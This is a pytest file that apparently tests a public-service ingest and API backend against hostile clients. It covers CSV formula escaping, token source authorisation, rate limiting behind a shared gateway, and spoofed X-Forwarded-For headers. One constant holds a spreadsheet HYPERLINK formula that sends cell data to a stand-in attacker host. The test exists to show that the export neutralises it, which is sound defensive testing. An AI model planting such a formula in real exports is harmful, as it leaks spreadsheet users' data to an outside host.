"""Hostile clients against the real services (issue 20, items 8–11): a bad client behind a
shared gateway, a trusted proxy, fake sources, the board's sign-in (session, cookie,
streamed body limit, failures), SSE clients beyond the cap, formulas in the public CSV —
against a real Redis (and Kafka where a 202 needs it), HTTP through the ASGI apps or a
uvicorn server."""

from __future__ import annotations

import csv
import io
from importlib import resources

import orjson
import redis
from fastapi.testclient import TestClient

from services.api.app import create_app as create_api
from services.ingest.app import create_app as create_ingest
from shared.config import Settings
from shared.tokens import TokenSpec, digest
from tests.conftest import redis_db
from tests.factories import received

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")'


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def fresh_db(redis_server: object, db: int) -> str:
    url = redis_db(redis_server, db)  # type: ignore[arg-type]
    redis.Redis.from_url(url).flushdb()
    return url


def test_public_csv_writes_a_formula_name_as_text(redis_server) -> None:
    settings = Settings(redis_url=fresh_db(redis_server, 12), catalog_log_enabled=False)
    agencies = resources.files("shared.data").joinpath("agencies.csv").read_text("utf-8")
    header, first, *rest = agencies.splitlines()
    code, _name, *tail = next(csv.reader([first]))
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow([code, FORMULA, *tail])
    catalog = "\n".join([header, out.getvalue().strip(), *rest]) + "\n"
    with TestClient(create_api(settings)) as api:
        put = api.put(
            "/v1/catalog/agencies", content=catalog.encode(), headers=bearer("dev-admin-token")
        )
        assert put.status_code == 200, put.text
        resp = api.get("/public/ket-qua.csv")
        assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
    (row,) = [r for r in rows if r[3] == code]
    assert row[4] == "'" + FORMULA  # shown as text, never run
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)


def test_an_issued_token_without_sources_cannot_invent_sources(redis_server) -> None:
    token = "tok-cong-dvc-tinh-0001"
    spec = TokenSpec(name="cong-dvc", sha256=digest(token), scopes=["ingest"], agencies=["*"])
    settings = Settings(
        kafka_bootstrap="127.0.0.1:1",
        tokens=[spec],
        redis_url=redis_db(redis_server, 12),
        ingest_produce_timeout_s=1,
    )
    headers = {"content-type": "application/json", **bearer(token)}
    with TestClient(create_ingest(settings)) as ingest:
        fake = [received(agency="so-y-te", dossier=f"f{i}", source=f"gia-{i}") for i in range(3)]
        resp = ingest.post("/v1/events", content=orjson.dumps(fake), headers=headers)
        assert resp.status_code == 403
        assert {e["code"] for e in resp.json()["errors"]} == {"forbidden_source"}
        # its own name, or no source (stamped with its name), passes authorisation (the
        # broker is down here: 503)
        own = [received(agency="so-y-te", source="cong-dvc"), received(agency="so-y-te")]
        assert (
            ingest.post("/v1/events", content=orjson.dumps(own), headers=headers).status_code == 503
        )


GATEWAY_TOKEN = "tok-his-so-y-te-0001"  # a valid source behind the province's gateway
GATEWAY_SOURCE = TokenSpec(
    name="his-so-y-te",
    sha256=digest(GATEWAY_TOKEN),
    scopes=["ingest"],
    sources=["his-so-y-te"],
    agencies=["so-y-te"],
)


def test_one_bad_client_behind_a_gateway_does_not_lock_out_a_valid_token(isolated) -> None:
    """Issue 20, item 8: every client of the gateway has the gateway's address."""
    settings = Settings(
        kafka_bootstrap=isolated["bootstrap"],
        topics=isolated["topics"],
        redis_url=isolated["redis_url"],
        tokens=[GATEWAY_SOURCE],
        auth_failures_per_minute=10,
    )
    events = [received(agency="so-y-te", dossier=f"hs-{i}") for i in range(20)]
    headers = {"content-type": "application/json"}
    with TestClient(create_ingest(settings), client=("10.20.0.1", 40000)) as ingest:
        # a misconfigured client behind the same gateway: the same wrong token, again and again
        bad = {**headers, **bearer("tok-his-cu-da-thu-hoi")}
        codes = [
            ingest.post("/v1/events", content=b"[]", headers=bad).status_code for _ in range(12)
        ]
        assert codes[:10] == [403] * 10 and codes[10:] == [429, 429]
        ok = ingest.post(
            "/v1/events", content=orjson.dumps(events), headers={**headers, **bearer(GATEWAY_TOKEN)}
        )
        assert ok.status_code == 202, ok.text
        assert ok.json()["accepted"] == 20


def test_a_trusted_proxy_gives_the_client_address(isolated) -> None:
    settings = Settings(
        kafka_bootstrap=isolated["bootstrap"],
        topics=isolated["topics"],
        redis_url=isolated["redis_url"],
        tokens=[GATEWAY_SOURCE],
        auth_failures_per_minute=5,
        trusted_proxies=["10.20.0.0/24"],
    )
    body = orjson.dumps([received(agency="so-y-te", dossier="hs-proxy")])
    headers = {"content-type": "application/json"}

    def via(address: str) -> dict[str, str]:
        return {**headers, "X-Forwarded-For": address}

    with TestClient(create_ingest(settings), client=("10.20.0.1", 40000)) as proxied:
        for i in range(5):  # someone guessing, behind the proxy
            guess = proxied.post(
                "/v1/events", content=body, headers={**via("203.0.113.7"), **bearer(f"g{i}")}
            )
            assert guess.status_code == 403
        # the guesser's address is refused, a right token included …
        right = {**via("203.0.113.7"), **bearer(GATEWAY_TOKEN)}
        assert proxied.post("/v1/events", content=body, headers=right).status_code == 429
        # … the proxy's other clients are not
        other = {**via("203.0.113.8"), **bearer(GATEWAY_TOKEN)}
        assert proxied.post("/v1/events", content=body, headers=other).status_code == 202
    # a peer that is not the proxy cannot pick its address with the header
    with TestClient(create_ingest(settings), client=("198.51.100.9", 40000)) as direct:
        for i in range(5):
            spoofed = {**via(f"192.0.2.{i}"), **bearer(f"s{i}")}
            assert direct.post("/v1/events", content=body, headers=spoofed).status_code == 403
        assert (
            direct.post(
                "/v1/events", content=body, headers={**via("192.0.2.99"), **bearer("s9")}
            ).status_code
            == 429
        )
